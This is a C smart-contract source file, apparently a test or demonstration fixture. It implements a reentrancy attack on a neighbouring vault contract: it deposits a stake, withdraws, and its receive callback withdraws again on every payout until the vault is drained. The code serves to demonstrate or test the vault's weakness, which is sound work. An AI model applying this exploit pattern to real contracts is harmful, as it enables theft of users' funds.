/*
 * Robs the vault beside it: deposits, withdraws, and each time the vault pays out, withdraws again
 * before the vault has noticed.
 */
#include "assay_contract.h"
#include "../vault/vault_abi.h"
#include "attacker_abi.h"

#define SLOT_VICTIM slot(0)
#define SLOT_STAKE slot(1)

/* Calls a function of the victim that takes no arguments; a failure is ours, with its reason. */
static void call_victim(address victim, uint32_t selector, u256 value) {
  uint32_t big_endian = __builtin_bswap32(selector);
  if (!call(victim, value, (const uint8_t *)&big_endian, 4)) revert_with_return_data();
}

EXTERNAL attack(void) {
  address victim = argument_address(0);
  storage_set(SLOT_VICTIM, word_of_address(victim));
  storage_set_u256(SLOT_STAKE, value_sent());
  call_victim(victim, FUNCTION_DEPOSIT, value_sent());
  call_victim(victim, FUNCTION_WITHDRAW, u256_of(0));
}

/* Called by the victim with our money: goes back for more as long as there is more. */
EXTERNAL receive(void) {
  address victim = address_from(storage_get(SLOT_VICTIM));
  if (u256_less(balance_of_account(victim), storage_get_u256(SLOT_STAKE))) return;
  call_victim(victim, FUNCTION_WITHDRAW, u256_of(0));
}

ENTRYPOINT(selector) {
  if (calldata_length == 0) return receive();
  if (selector == FUNCTION_ATTACK) return attack();
  revert_empty();
}
